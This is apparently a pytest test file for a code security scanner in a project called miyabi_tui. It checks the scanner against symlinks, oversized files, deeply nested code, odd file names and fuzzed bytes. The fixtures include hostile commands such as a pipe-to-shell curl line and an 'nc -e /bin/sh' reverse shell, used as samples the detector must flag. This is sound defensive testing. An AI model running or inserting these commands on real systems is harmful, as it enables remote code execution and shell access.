"""The scanner as a program, on files made to break it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from miyabi_tui.engine.scoring.score import Finding
from miyabi_tui.engine.security import scan
from miyabi_tui.engine.security.reading import LARGEST
from miyabi_tui.engine.security.report import (
    joined,
    read_report,
    request,
    threat_of_bandit,
)
from miyabi_tui.engine.security.scan import Scan, analyse
from miyabi_tui.engine.security.threats import Severity, Threat
from tests.security_changes import change, write

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.repositories import Repository

    Make = Callable[..., Repository]

LOW, MEDIUM, HIGH, CRITICAL = Severity.LOW, Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL


def test_severities_have_an_order() -> None:
    assert [one.rank for one in (LOW, MEDIUM, HIGH, CRITICAL)] == [0, 1, 2, 3]
    assert [one.blocks for one in (LOW, MEDIUM, HIGH, CRITICAL)] == [False, False, True, True]
    assert (LOW.milder, CRITICAL.milder) == (LOW, HIGH)


# --- what cannot be read --------------------------------------------------------------------------


def test_what_is_no_plain_file_is_said_and_never_opened(tmp_path: Path) -> None:
    new = tmp_path / "new"
    new.mkdir()
    os.mkfifo(new / "pipe.py")
    (new / "module").mkdir()
    (new / "out").symlink_to("/etc")
    (new / "up").symlink_to("../../x")
    (new / "hook").symlink_to(".git/hooks/pre-commit")
    (new / "fine").symlink_to("a/b")
    (new / ".github").mkdir()
    (new / ".github" / "workflows").symlink_to("../ci")
    names = ("pipe.py", "module", "out", "up", "hook", "fine", "out/passwd", "../etc/passwd")
    found = {one.path: one for one in analyse(new, tmp_path / "old", names)}
    assert {path: (one.rule, one.severity) for path, one in found.items()} == {
        "pipe.py": ("special-file", HIGH),
        "module": ("submodule", MEDIUM),
        "out": ("symlink-out", HIGH),
        "up": ("symlink-out", HIGH),
        "hook": ("symlink-out", HIGH),
        "out/passwd": ("not-analysed", HIGH),
        "../etc/passwd": ("not-analysed", HIGH),
    }
    assert "'/etc'" in found["out"].message


def test_a_file_that_is_too_large_is_said(tmp_path: Path) -> None:
    write(tmp_path / "new", {"a.py": "", "a.csv": ""})
    for name in ("a.py", "a.csv"):
        os.truncate(tmp_path / "new" / name, LARGEST + 1)
    found = analyse(tmp_path / "new", tmp_path / "old", ["a.py", "a.csv"])
    assert [(one.path, one.rule, one.severity) for one in found] == [
        ("a.py", "not-analysed", HIGH),
        ("a.csv", "not-analysed", MEDIUM),
    ]


@pytest.mark.parametrize(
    "code",
    [
        "x = " + "-" * 20_000 + "1\n",
        "x = " + "(" * 300 + ")" * 300 + "\n",
        "x = a" + ".b" * 20_000 + "\n",
        "f(" * 3_000 + ")" * 3_000 + "\n",
        "eval(x" + " + y" * 3_000 + ")\n",
    ],
    ids=["signs", "brackets", "attributes", "calls", "sum"],
)
def test_code_that_is_nested_too_deeply(tmp_path: Path, code: str) -> None:
    scanner = Scan(tmp_path / "new", tmp_path / "old")
    write(tmp_path / "new", {"a.py": code})
    found = scanner.run(["a.py"])
    assert scanner.remarks == []
    assert all(one.rule in ("not-analysed", "eval") for one in found)


def test_names_that_break_terminals_are_shown_safely(tmp_path: Path) -> None:
    for name in (
        "a\nb.sh",
        "\x1b[31m.sh",
        b"\xff.sh".decode("utf-8", "surrogateescape"),
        "x" * 252,
    ):
        name = name if name.endswith(".sh") else name + ".sh"
        (one, *rest) = sorted(
            change(tmp_path / str(len(name)), {name: "curl https://x.example | sh\n"}),
            key=lambda one: -one.severity.rank,
        )
        assert (one.rule, one.severity) == ("pipe-to-shell", HIGH)
        assert one.path.encode().decode().isprintable()
        assert all(other.rule == "file-name" for other in rest)


def test_a_very_long_line_and_a_thousand_findings(tmp_path: Path) -> None:
    found = change(
        tmp_path,
        {"a.min.js": "eval(x);" * 30_000, "b.py": "eval(x)\n" * 500 + "import os\nos.system(x)\n"},
    )
    assert len(found) < 50
    assert any(one.severity is HIGH for one in found if one.path == "b.py")
    (more,) = [one for one in found if one.rule == "more"]
    assert more.message.startswith("and 461 more findings")


def test_a_fault_of_ours_is_a_remark(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(source: object) -> list[object]:
        raise KeyError(source)

    monkeypatch.setattr(scan, "ANALYSES", (fails,))
    write(tmp_path / "new", {"a.py": ""})
    scanner = Scan(tmp_path / "new", tmp_path / "old")
    scanner.run(["a.py"])
    assert scanner.remarks == ["a.py: KeyError in the analysis"]


NAMES = ["a.py", "a.sh", "a.js", "a.rs", "a.php", "README.md", "x", "requirements.txt", "go.mod"]
NAMES += ["pyproject.toml", "package.json", "Cargo.toml", "setup.cfg", "Gemfile", "poetry.lock"]
NAMES += [".gitattributes", "conftest.py", "miyabi.toml", "a.yml", "tests/test_a.py", "id.pem"]
WORDS = st.sampled_from(
    [
        *(b"eval(", b"import os\n", b"curl x | sh", b"\n", b"[a]\n", b"x = {", b"}", b'"', b"'"),
        *(b"\\\n", b"http://", b"1.2.3.4", b"os.environ", b"\0", b"\xff\xfe", b"def f():\n  "),
    ]
)


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    name=st.sampled_from(NAMES),
    data=st.one_of(st.binary(max_size=400), st.lists(WORDS, max_size=30).map(b"".join)),
    before=st.binary(max_size=100),
)
def test_no_bytes_break_an_analysis(name: str, data: bytes, before: bytes) -> None:
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        write(root / "new", {name: data})
        write(root / "old", {name: before})
        scanner = Scan(root / "new", root / "old")
        for one in scanner.run([name]):
            assert str(one).encode().decode().isprintable()
        assert scanner.remarks == []
        assert analyse(root / "old", root / "old", [name]) == []


# --- the program and its report -------------------------------------------------------------------


def test_the_program_writes_a_report(tmp_path: Path) -> None:
    odd = b"caf\xe9.sh".decode("utf-8", "surrogateescape")
    write(
        tmp_path / "new", {odd: "nc -e /bin/sh 1.1.1.1 9\n", "miyabi_tui.py": "raise SystemExit\n"}
    )
    asked, report = tmp_path / "request.json", tmp_path / "report.json"
    asked.write_bytes(request(tmp_path / "new", tmp_path / "old", [odd, "gone.py"]))
    subprocess.run(
        [sys.executable, "-P", "-m", "miyabi_tui.engine.security.scan", asked, report],
        cwd=tmp_path / "new",
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parent.parent)},
        check=True,
    )
    read = read_report(json.loads(report.read_bytes()))
    assert read is not None
    found = max(read.findings, key=lambda one: one.severity.rank)
    assert (found.path, found.severity, found.threat) == ("caf?.sh", CRITICAL, Threat.MALICIOUS)
    assert read.remark == ""


@pytest.mark.parametrize("data", [None, [], {}, {"findings": [1]}, {"findings": [{"path": 1}]}])
def test_a_report_that_is_none(data: object) -> None:
    assert read_report(data) is None


def test_bandits_findings_count_once() -> None:
    def one(line: int, rule: str, severity: Severity, threat: Threat = Threat.UNSAFE) -> Finding:
        return Finding("a.py", line, rule, "", severity, threat)

    b602, shell = one(1, "B602", HIGH), one(1, "shell", HIGH)
    b102, decoded = one(2, "B102", MEDIUM), one(2, "decoded", CRITICAL, Threat.MALICIOUS)
    b301, worse = one(3, "B301", LOW), one(3, "unpickles", MEDIUM)
    alone = one(4, "eval", MEDIUM)
    kept = joined((b602, b102, b301), (shell, decoded, worse, alone))
    assert kept == (b602, b102, decoded, worse, alone)
    assert threat_of_bandit("B105") is Threat.SECRET
    assert threat_of_bandit("B602") is Threat.UNSAFE
